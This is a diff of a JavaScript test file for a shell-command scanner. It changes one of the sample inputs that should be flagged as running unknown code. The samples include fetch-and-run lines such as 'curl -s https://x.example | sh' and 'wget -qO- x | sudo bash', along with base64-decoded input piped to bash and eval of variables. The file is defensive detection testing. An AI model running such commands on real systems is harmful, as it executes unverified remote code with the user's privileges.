@@ -137,7 +137,7 @@ describe('stdin and heredocs', () => {
 });
 
 describe('findings', () => {
-  for (const line of ['curl -s https://x.example | sh', 'wget -qO- x | sudo bash', 'echo aGk= | base64 -d | bash', 'eval "$X"', 'bash -c "$X"', 'bash <(curl x)', 'curl x | python3']) {
+  for (const line of ['curl -s https://x.example | sh', 'wget -qO- x | sudo bash', 'echo "$B64" | base64 -d | bash', 'eval "$X"', 'bash -c "$X"', 'bash <(curl x)', 'curl x | python3']) {
     test(`unknown code: ${line}`, () => assert.ok(findingRules(line).includes('shell.unknown-code')));
   }
   test('eval of a shell-init tool is not unknown code', () => {
